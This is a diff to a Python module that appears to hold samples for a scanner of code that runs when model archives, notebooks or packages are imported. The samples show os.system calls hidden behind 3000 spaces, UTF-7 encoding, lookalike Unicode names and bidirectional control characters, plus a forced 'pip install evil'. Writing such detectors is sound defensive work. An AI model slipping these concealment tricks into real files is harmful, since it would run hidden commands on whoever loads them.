@@ -1,4 +1,4 @@
-"""Python beside the model, in archives, notebooks and packages: what it runs when it is imported."""
+"""Python beside the model, in archives, notebooks and packages: what importing it runs."""
 
 from __future__ import annotations
 
@@ -79,9 +79,11 @@ _RUNS: Final[Mapping[str, str]] = {
     "in __init__ of a model": "import os\nclass Net:\n    def __init__(self):\n"
     f"        os.system({COMMAND!r})",
     "far to the right": f"x = 1{' ' * 3000}; import os; os.system({COMMAND!r})",
-    "in another encoding": f"# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os\nos.system({COMMAND!r})",
+    "in another encoding": "# -*- coding: utf-7 -*-\n"
+    f"+AGkAbQBwAG8AcgB0- os\nos.system({COMMAND!r})",
     "names of another script": f"import os\nℴ𝓈.𝓈𝓎𝓈𝓉ℯ𝓂({COMMAND!r})",
-    "text that runs backwards": "access = 'user'\nif access != 'none\u202e\u2066': # x\u2069 \u2066\n"
+    "text that runs backwards": "access = 'user'\n"
+    "if access != 'none\u202e\u2066': # x\u2069 \u2066\n"
     f"    __import__('os').system({COMMAND!r})",
     "pip": "import subprocess, sys\n"
     "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])",
@@ -91,7 +93,8 @@ _RUNS: Final[Mapping[str, str]] = {
 }  # fmt: skip
 
 _LESSER: Final = {
-    "subprocess", "pickle", "ctypes", "in __init__ of a model", "pip", "in __reduce__", "import by importlib",
+    "subprocess", "pickle", "ctypes", "in __init__ of a model", "pip", "in __reduce__",
+    "import by importlib",
 }  # fmt: skip
 """What an owner's own code may have reason to do: for a person to look at."""
 
